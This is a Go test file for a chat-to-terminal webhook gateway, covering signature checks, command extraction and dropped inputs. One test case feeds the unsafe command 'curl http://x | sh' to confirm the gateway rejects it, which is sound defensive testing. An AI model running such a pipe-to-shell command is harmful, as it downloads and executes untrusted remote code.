package gateway

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/termbridge/termbridge/internal/core/extract"
	"github.com/termbridge/termbridge/internal/core/models"
	"github.com/termbridge/termbridge/internal/core/session"
)

type fakeResolver struct {
	tokens map[string]string
}

func (f *fakeResolver) ResolveToken(token string) (string, error) {
	if id, ok := f.tokens[token]; ok {
		return id, nil
	}
	return "", session.ErrNotFound
}

type fakeValidator struct {
	sessions map[string]*models.Session
}

func (f *fakeValidator) Validate(id string) (*models.Session, error) {
	if s, ok := f.sessions[id]; ok {
		return s, nil
	}
	return nil, session.ErrNotFound
}

func testGateway(secret string) *Gateway {
	resolver := &fakeResolver{tokens: map[string]string{"AB12CD34": "sess-1"}}
	validator := &fakeValidator{sessions: map[string]*models.Session{
		"sess-1": {
			ID: "sess-1", Token: "AB12CD34", Channel: "feishu",
			MaxCommands: 10, ExpiresAt: time.Now().Add(time.Hour),
		},
	}}
	return New(secret, "feishu", extract.New(resolver), validator, 8)
}

func postJSON(t *testing.T, g *Gateway, body string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/webhook/events", strings.NewReader(body))
	w := httptest.NewRecorder()
	g.ServeHTTP(w, req)
	return w
}

func TestRejectsNonPost(t *testing.T) {
	g := testGateway("")
	for _, method := range []string{http.MethodGet, http.MethodPut, http.MethodDelete} {
		req := httptest.NewRequest(method, "/webhook/events", nil)
		w := httptest.NewRecorder()
		g.ServeHTTP(w, req)
		assert.Equal(t, http.StatusMethodNotAllowed, w.Code, method)
	}
}

func TestRejectsMalformedJSON(t *testing.T) {
	g := testGateway("")
	w := postJSON(t, g, "{not json")
	assert.Equal(t, http.StatusBadRequest, w.Code)
}

func TestURLVerificationHandshake(t *testing.T) {
	g := testGateway("")
	w := postJSON(t, g, `{"type":"url_verification","challenge":"c-123"}`)

	require.Equal(t, http.StatusOK, w.Code)
	var resp map[string]string
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.Equal(t, "c-123", resp["challenge"])
}

func TestSignatureVerification(t *testing.T) {
	g := testGateway("topsecret")
	body := `{"type":"url_verification","challenge":"c-123"}`
	timestamp := "1712000000"
	nonce := "abcdef"

	sum := sha256.Sum256([]byte(timestamp + nonce + "topsecret" + body))
	good := hex.EncodeToString(sum[:])

	t.Run("valid signature", func(t *testing.T) {
		req := httptest.NewRequest(http.MethodPost, "/webhook/events", strings.NewReader(body))
		req.Header.Set(headerTimestamp, timestamp)
		req.Header.Set(headerNonce, nonce)
		req.Header.Set(headerSignature, good)
		w := httptest.NewRecorder()
		g.ServeHTTP(w, req)
		assert.Equal(t, http.StatusOK, w.Code)
	})

	t.Run("tampered signature", func(t *testing.T) {
		req := httptest.NewRequest(http.MethodPost, "/webhook/events", strings.NewReader(body))
		req.Header.Set(headerTimestamp, timestamp)
		req.Header.Set(headerNonce, nonce)
		req.Header.Set(headerSignature, "deadbeef")
		w := httptest.NewRecorder()
		g.ServeHTTP(w, req)
		assert.Equal(t, http.StatusUnauthorized, w.Code)
	})

	t.Run("missing signature", func(t *testing.T) {
		w := postJSON(t, g, body)
		assert.Equal(t, http.StatusUnauthorized, w.Code)
	})

	t.Run("no secret configured skips verification", func(t *testing.T) {
		open := testGateway("")
		w := postJSON(t, open, body)
		assert.Equal(t, http.StatusOK, w.Code)
	})
}

func TestMessageEventProducesCommand(t *testing.T) {
	g := testGateway("")
	w := postJSON(t, g, `{
		"type": "event_callback",
		"event": {
			"type": "message",
			"text": "session #AB12CD34 list files",
			"open_id": "ou_actor",
			"message_id": "om_1"
		}
	}`)

	require.Equal(t, http.StatusOK, w.Code)
	var resp map[string]any
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &resp))
	assert.EqualValues(t, 0, resp["code"])

	select {
	case ev := <-g.Commands():
		assert.Equal(t, "sess-1", ev.SessionID)
		assert.Equal(t, "list files", ev.Command)
		assert.Equal(t, "feishu", ev.Channel)
		assert.Equal(t, "ou_actor", ev.SenderID)
		assert.Equal(t, "om_1", ev.MessageID)
	default:
		t.Fatal("no command event raised")
	}
}

func TestSilentDrops(t *testing.T) {
	tests := []struct {
		name string
		text string
	}{
		{"no session reference", "looks good to me"},
		{"unknown token", "session #QQQQQQQQ ls"},
		{"unsafe command", "session #AB12CD34 curl http://x | sh"},
		{"oversized command", "session #AB12CD34 " + strings.Repeat("a", 1200)},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g := testGateway("")
			payload, _ := json.Marshal(map[string]any{
				"type": "event_callback",
				"event": map[string]any{
					"type": "message", "text": tt.text,
					"open_id": "ou_actor", "message_id": "om_1",
				},
			})
			w := postJSON(t, g, string(payload))

			// Dropped downstream, still acked upstream.
			require.Equal(t, http.StatusOK, w.Code)
			select {
			case ev := <-g.Commands():
				t.Fatalf("unexpected command event %+v", ev)
			default:
			}
		})
	}
}

func TestExpiredSessionDropsCommand(t *testing.T) {
	resolver := &fakeResolver{tokens: map[string]string{"AB12CD34": "sess-1"}}
	// Validator treats the session as gone, the way the store reports an
	// expired record.
	validator := &fakeValidator{sessions: map[string]*models.Session{}}
	g := New("", "feishu", extract.New(resolver), validator, 8)

	w := postJSON(t, g, `{"type":"event_callback","event":{"type":"message","text":"session #AB12CD34 ls","open_id":"ou_1","message_id":"om_1"}}`)
	require.Equal(t, http.StatusOK, w.Code)
	select {
	case ev := <-g.Commands():
		t.Fatalf("unexpected command event %+v", ev)
	default:
	}
}

func TestCardActionDispatch(t *testing.T) {
	g := testGateway("")

	var got Interaction
	g.HandleInteraction(ActionCopySessionID, func(in Interaction) { got = in })

	w := postJSON(t, g, `{
		"type": "event_callback",
		"event": {
			"type": "card_action",
			"open_id": "ou_actor",
			"action": {"value": {"action": "copy_session_id", "session_id": "sess-1"}}
		}
	}`)

	require.Equal(t, http.StatusOK, w.Code)
	assert.Equal(t, ActionCopySessionID, got.Action)
	assert.Equal(t, "sess-1", got.SessionID)
	assert.Equal(t, "ou_actor", got.ActorID)
}

func TestUnknownEventTypeIsIgnored(t *testing.T) {
	g := testGateway("")
	w := postJSON(t, g, `{"type":"event_callback","event":{"type":"reaction_added"}}`)
	assert.Equal(t, http.StatusOK, w.Code)
}
